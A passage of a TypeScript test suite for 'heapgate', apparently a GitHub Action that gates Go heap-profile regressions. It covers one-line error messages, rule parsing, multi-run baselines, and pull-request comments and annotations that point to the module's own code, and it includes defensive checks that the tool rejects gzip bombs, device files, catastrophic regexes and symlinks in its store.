    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(B);
  });

  test('a short baseline-sha is a usage error saying how to get the full one', async () => {
    const store = await seededStore();
    const r = await run(store, RERUN, {
      eventName: 'workflow_dispatch',
      payload: { ref: 'refs/heads/main', repository: { default_branch: 'main' } },
      sha: C,
      inputs: { 'baseline-sha': A.slice(0, 7) },
    });
    expect(r.code).toBe(2);
    expect(errors(r)).toEqual([
      'heapgate: input baseline-sha: invalid commit sha "aaaaaaa": a short commit id; give the full one ' +
        '(git rev-parse aaaaaaa); 40 or 64 hex digits are needed',
    ]);
  });
});

describe('errors are one clear line', () => {
  function expectOneError(r: ActionResult, code: number, pattern: RegExp): void {
    expect(r.code).toBe(code);
    const errs = errors(r);
    expect(errs).toHaveLength(1);
    expect(errs[0]).toMatch(pattern);
    expect(`${r.stdout}${r.stderr}`).not.toMatch(/\n\s+at /);
    // The job summary says why, too.
    expect(r.summary.startsWith('### ⛔ heapgate: error\n')).toBe(true);
  }

  test('a missing profile', async () => {
    const r = await push(freshStore(), 'no/such/heap.pb.gz', A, '2026-01-01T10:00:00Z');
    expectOneError(r, 2, /^heapgate: input profile: reading no\/such\/heap\.pb\.gz: no such file$/);
  });

  test('a glob that matches nothing', async () => {
    const r = await push(freshStore(), `${FIXTURES}/nothing*.pb.gz`, A, '2026-01-01T10:00:00Z');
    expectOneError(r, 2, /^heapgate: input profile: no file matches ".*nothing\*\.pb\.gz"$/);
  });

  test('a glob that matches one profile is used', async () => {
    const r = await push(freshStore(), `${FIXTURES}/good.rate1.h*.pb.gz`, A, '2026-01-01T10:00:00Z');
    expect(r.code).toBe(0);
    expect(reportOf(r).update).toMatchObject({ result: 'moved' });
  });

  test('a profile that is not a profile', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'heapgate-bad-'));
    writeFileSync(join(dir, 'heap.pb.gz'), Buffer.from([0x1f, 0x8b, 1, 2, 3]));
    const r = await push(freshStore(), join(dir, 'heap.pb.gz'), A, '2026-01-01T10:00:00Z');
    expectOneError(r, 2, /^heapgate: decoding current profile .*heap\.pb\.gz: /);
  });

  test('bad rules', async () => {
    const store = await seededStore();
    const r = await pr(store, RERUN, { number: 20 }, { rules: 'inuse_space +lots' });
    expectOneError(r, 2, /^heapgate: input rules: rule 1 \("inuse_space \+lots"\)/);
    expect(server.commentsOn(20)).toHaveLength(0);
  });

  test('an invalid input value names the input and what is allowed', async () => {
    const r = await run(freshStore(), GOOD, {
      eventName: 'push',
      payload: pushPayload('2026-01-01T10:00:00Z'),
      sha: A,
      inputs: { mode: 'sometimes' },
    });
    expectOneError(
      r,
      2,
      /^heapgate: input mode: "sometimes" is not allowed; use one of auto, check, update, record, report$/,
    );
  });

  test('a mistyped store URL is a usage error, and nothing is created', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'heapgate-cwd-'));
    const r = await push(
      'gs:/my-heap-baselines/heapgate',
      join(process.cwd(), GOOD),
      A,
      '2026-01-01T10:00:00Z',
      '100',
      cwd,
    );
    expectOneError(
      r,
      2,
      /^heapgate: invalid --store "gs:\/my-heap-baselines\/heapgate": a Cloud Storage store is written/,
    );
    expect(readdirSync(cwd)).toEqual([]);
  });

  test('a pull request against a directory store that does not exist', async () => {
    const r = await pr(freshStore(), RERUN, { number: 21 });
    expectOneError(r, 3, /^heapgate: store directory .*baselines does not exist: check --store/);
    expect(server.commentsOn(21)).toHaveLength(0);
  });

  test('a function rule that matches no function names the closest ones', async () => {
    const store = await seededStore();
    const r = await pr(store, RERUN, { number: 22 }, { rules: 'inuse_space for ^main\\.cache: +10%' });
    expectOneError(r, 2, /^heapgate: input rules: rule 1 .*matches no function in either profile; closest: main\./);
  });

  test('rules that leave nothing to judge', async () => {
    const store = await seededStore();
    const off = 'inuse_space off\ninuse_objects off\nalloc_space off\nalloc_objects off';
    const r = await pr(store, RERUN, { number: 23 }, { rules: off });
    expectOneError(r, 2, /^heapgate: input rules: no rule applies to any of the profiles' sample types/);
  });

  test('a gzip bomb is refused from its first bytes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'heapgate-bomb-'));
    writeFileSync(join(dir, 'heap.pb.gz'), gzipBomb(256));
    const r = await push(freshStore(), join(dir, 'heap.pb.gz'), A, '2026-01-01T10:00:00Z');
    expectOneError(r, 2, /^heapgate: decoding current profile .*heap\.pb\.gz: not a pprof profile \(decompressed/);
  });

  test('a profile over max-profile-size', async () => {
    const r = await run(freshStore(), GOOD, {
      eventName: 'push',
      payload: pushPayload('2026-01-01T10:00:00Z'),
      sha: A,
      inputs: { 'max-profile-size': '1KiB' },
    });
    expectOneError(r, 2, /^heapgate: input profile: reading .*: \d+ bytes, more than the limit of 1024 bytes/);
  });

  test('an unreachable store', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'heapgate-notdir-'));
    writeFileSync(join(dir, 'file'), 'x');
    const r = await push(join(dir, 'file', 'store'), GOOD, A, '2026-01-01T10:00:00Z');
    expectOneError(r, 3, /^heapgate: .*not a directory/);
  });

  test('a device as the profile stops at max-profile-size', async () => {
    const r = await run(freshStore(), '/dev/zero', {
      eventName: 'push',
      payload: pushPayload('2026-01-01T10:00:00Z'),
      sha: A,
      inputs: { 'max-profile-size': '1MiB' },
    });
    expectOneError(r, 2, /\/dev\/zero: not a regular file, and more than the limit of 1048576 bytes/);
  });

  test('a function rule that backtracks exponentially elsewhere ends, judged in linear time', async () => {
    const store = await seededStore();
    // (a+)+$ matches the profile's functions whose names end in "a": judged like any function rule.
    const r = await pr(store, RERUN, { number: 24 }, { rules: 'inuse_space for (a+)+$: +10%' });
    expect(r.code).toBe(0);
    const metric = reportOf(r).report.metrics.find((m: Json) => m.pattern === '(a+)+$');
    expect(metric).toMatchObject({ sampleType: 'inuse_space', status: 'pass' });
  });

  test('a dangling symlink as the newest pointer generation is a store error, not a spin', async () => {
    const store = await seededStore();
    const pointer = join(store, SERIES, 'main', 'pointer');
    symlinkSync(join(store, 'nowhere'), join(pointer, '0000000000000009.json'));
    const r = await pr(store, RERUN, { number: 25 });
    expectOneError(r, 3, /0000000000000009\.json: a symbolic link; heapgate never follows links inside a store$/);
  });

  test('a history window too small to calibrate', async () => {
    const r = await pr(await seededStore(), RERUN, { number: 26 }, { history: '3' });
    expectOneError(
      r,
      2,
      /input history: "3" is not allowed; 3 baselines can never calibrate the noise: use at least 5/,
    );
  });
});

describe('process warnings', () => {
  test('a library warning becomes one ::warning:: annotation, not Node’s two stderr lines', async () => {
    const preload = join(mkdtempSync(join(tmpdir(), 'heapgate-preload-')), 'raise-warning.mjs');
    writeFileSync(preload, "setTimeout(() => process.emitWarning('disk nearly full', 'ExampleWarning'), 0);\n");
    const r = await run(freshStore(), GOOD, {
      eventName: 'push',
      payload: pushPayload('2026-01-01T10:00:00Z'),
      sha: A,
      env: { NODE_OPTIONS: `--import=${preload}` },
    });
    expect(r.code).toBe(0);
    expect(warnings(r)).toContain('ExampleWarning: disk nearly full');
    expect(r.stderr).not.toContain('ExampleWarning');
  });
});

describe('several runs per side (a glob matching several profiles, or several lines)', () => {
  const RUNS = `${FIXTURES}/good*.rate1.heap.pb.gz`;

  test('a push stores the runs together, a pull request of several runs compares their per-run means', async () => {
    const store = freshStore();
    const seeded = await push(store, RUNS, A, '2026-01-01T10:00:00Z');
    expect(seeded.code).toBe(0);
    const dir = new DirBaselineStore({ root: store });
    const pointer = await dir.pointer(SERIES, 'main');
    expect(pointer?.current).toMatchObject({ sha: A, runs: 2 });
    expect(pointer!.current.runTotals).toHaveLength(2);
    // The stored object is a tar of the two profiles exactly as given (sorted by name).
    const stored = (await dir.commit(SERIES, 'main', A))!.profile;
    expect(isRunBundle(stored)).toBe(true);
    expect(unpackRuns(stored).map((b) => Buffer.from(b))).toEqual([readFileSync(RERUN), readFileSync(GOOD)]);

    const same = await pr(store, `${RUNS}\n`);
    const report = (reportOf(same) as { report: { runs: unknown; metrics: { runs: unknown }[] } }).report;
    expect(report.runs).toEqual({ base: 2, current: 2 });
    expect(report.metrics[0]!.runs).toEqual({ base: 2, current: 2 });
    expect(same.code).toBe(0);
    expect(same.summary).toContain('Per-run means of 2 base runs and 2 current runs');

    // One regressed run against the two stored: the base's spread stands for both sides.
    const one = await pr(store, REGRESSED);
    expect((reportOf(one) as { report: { runs: unknown } }).report.runs).toEqual({ base: 2, current: 1 });
    expect(one.summary).toContain('Per-run means of 2 base runs and 1 current run');
  });

  test('several lines, each a path or glob; a line that matches nothing is an error', async () => {
    const r = await push(freshStore(), `${GOOD}\n${FIXTURES}/missing-*.pb.gz`, A, '2026-01-01T10:00:00Z');
    expect(r.code).toBe(2);
    expect(errors(r)).toEqual([
      expect.stringMatching(/^heapgate: input profile: no file matches ".*missing-\*\.pb\.gz"$/),
    ]);
  });
});

describe("the culprit is the workspace's own code", () => {
  /** A checkout of workloads/catalog's module (its go.mod) with its profiles. */
  function workspace(build = 'trimpath'): string {
    const dir = mkdtempSync(join(tmpdir(), 'heapgate-ws-'));
    for (const f of ['go.mod', 'cache.go', 'lookup.go'])
      writeFileSync(join(dir, f), readFileSync(`workloads/catalog/${f}`));
    for (const v of ['good', 'regressed']) {
      writeFileSync(join(dir, `${v}.heap.pb.gz`), readFileSync(`__tests__/fixtures/own/${build}/${v}.heap.pb.gz`));
    }
    return dir;
  }

  /** The annotations on source lines: `::error file=F,line=N,title=T::message` lines of stdout. */
  function lineAnnotations(r: ActionResult): { kind: string; file: string; line: number; message: string }[] {
    return r.stdout.split('\n').flatMap((l) => {
      const m = /^::(error|warning) (.*)::(.*)$/.exec(l);
      if (m === null) return [];
      const props = Object.fromEntries(m[2]!.split(',').map((p) => p.split('=') as [string, string]));
      if (props.file === undefined) return [];
      return [{ kind: m[1]!, file: props.file, line: Number(props.line), message: m[3]! }];
    });
  }

  async function pullRequest(ws: string, store: string, inputs: Record<string, string> = {}): Promise<ActionResult> {
    expect((await push(store, 'good.heap.pb.gz', A, '2026-01-01T10:00:00Z', '100', ws)).code).toBe(0);
    return run(store, 'regressed.heap.pb.gz', {
      eventName: 'pull_request',
      payload: prPayload({ number: 41 }),
      sha: sha('e'),
      ref: 'refs/pull/41/merge',
      cwd: ws,
      inputs,
    });
  }

  test("the summary and the comment name the go.mod module's function, with the leaf as context", async () => {
    const ws = workspace();
    const r = await pullRequest(ws, join(ws, 'store'));
    expect(r.outputs.verdict).toBe('fail');
    const headline = r.summary.split('\n')[0]!;
    expect(headline).toMatch(/^### ❌ heapgate `cache`: fail/);
    expect(r.summary).toContain('`example.com/catalog.(*Cache).Put`');
    const [comment] = server.commentsOn(41).map((c) => c.body);
    expect(comment).toContain('`example.com/catalog.(*Cache).Put`');
    expect(reportOf(r).report.own.inuse_space[1]).toMatchObject({
      name: 'example.com/catalog.(*Cache).Put',
      leaf: { name: 'container/list.(*List).insertValue' },
    });
  });

  test('error annotations on the lines of the module that grew, on their files in the checkout', async () => {
    const ws = workspace();
    const r = await pullRequest(ws, join(ws, 'store'));
    const lines = lineAnnotations(r);
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.length).toBeLessThanOrEqual(10);
    for (const a of lines) {
      expect(a.kind).toBe('error');
      expect(['cache.go', 'lookup.go']).toContain(a.file);
    }
    // c.byID[r.ID] = c.order.PushFront(r): the line whose list elements the cache now keeps.
    const put = lines.find((a) => a.file === 'cache.go' && a.line === 46);
    expect(put?.message).toMatch(/^\+\S+ \S+ \w+ here, in example\.com\/catalog\.\(\*Cache\)\.Put/);
    const text = readFileSync(join(ws, 'cache.go'), 'utf8').split('\n')[45];
    expect(text).toContain('c.order.PushFront(r)');
  });

  test('the comment lists the grown lines the pull request changed', async () => {
    const ws = workspace();
    // The pull request edits cache.go around Put: its lines 44-47 in the new file.
    server.pullFiles.set(41, [
      { filename: 'README.md', patch: '@@ -1,2 +1,2 @@\n-old\n+new\n context' },
      {
        filename: 'cache.go',
        patch:
          '@@ -42,6 +42,6 @@ func (c *Cache) Put(r *Record) {\n \t\tc.order.MoveToFront(e)\n \t\treturn\n \t}\n' +
          '-\tc.byID[r.ID] = c.order.PushFront(r)\n-\tif c.order.Len() > c.capacity {\n' +
          '+\tc.byID[r.ID] = c.order.PushFront(r)\n+\tif c.evict && c.order.Len() > c.capacity {\n' +
          ' \t\tlast := c.order.Back()',
      },
      { filename: 'logo.png' },
    ]);
    try {
      const r = await pullRequest(ws, join(ws, 'store'));
      expect(r.outputs.verdict).toBe('fail');
      const [comment] = server.commentsOn(41).map((c) => c.body);
      expect(comment).toContain('**Lines this pull request changed that allocate more**');
      expect(comment).toMatch(/\| `cache\.go:46` \| `example\.com\/catalog\.\(\*Cache\)\.Put` \| \+\S+ \S+ [a-z_]+ \|/);
      expect(comment).not.toContain('lookup.go:');
      expect(server.requests.some((q) => q.method === 'GET' && q.path.endsWith('/pulls/41/files'))).toBe(true);
    } finally {
      server.pullFiles.delete(41);
    }
  });

  test('growth from code the pull request did not touch gets the sentence that says so', async () => {
    const ws = workspace();
    server.pullFiles.set(41, [{ filename: 'README.md', patch: '@@ -1 +1 @@\n-old\n+new' }]);
    try {
      const r = await pullRequest(ws, join(ws, 'store'));
      const [comment] = server.commentsOn(41).map((c) => c.body);
      expect(comment).not.toContain('Lines this pull request changed');
      expect(comment).toMatch(
        /None of the \d+ lines of your code that allocate more are among the lines this pull request changed/,
      );
      expect(r.summary).toContain('None of the');
    } finally {
      server.pullFiles.delete(41);
    }
  });

  test('a profile whose paths are not in the checkout gets no line annotation', async () => {
    // Built without -trimpath elsewhere: absolute paths of another machine's checkout.
    const ws = workspace('abspath');
    const r = await pullRequest(ws, join(ws, 'store'));
    expect(r.outputs.verdict).toBe('fail');
    expect(lineAnnotations(r)).toEqual([]);
  });

  test('input own-code decides what is own', async () => {
    const ws = workspace();
    const r = await pullRequest(ws, join(ws, 'store'), { 'own-code': '^container/list\\.', rules: 'alloc_space off' });
    expect(r.outputs.verdict).toBe('fail');
    expect(r.summary).toContain('`container/list.(*List).insertValue`');
    expect(reportOf(r).report.own.inuse_space.map((f: Json) => String(f.name))).toEqual([
      'container/list.(*List).insertValue',
    ]);
  });
});
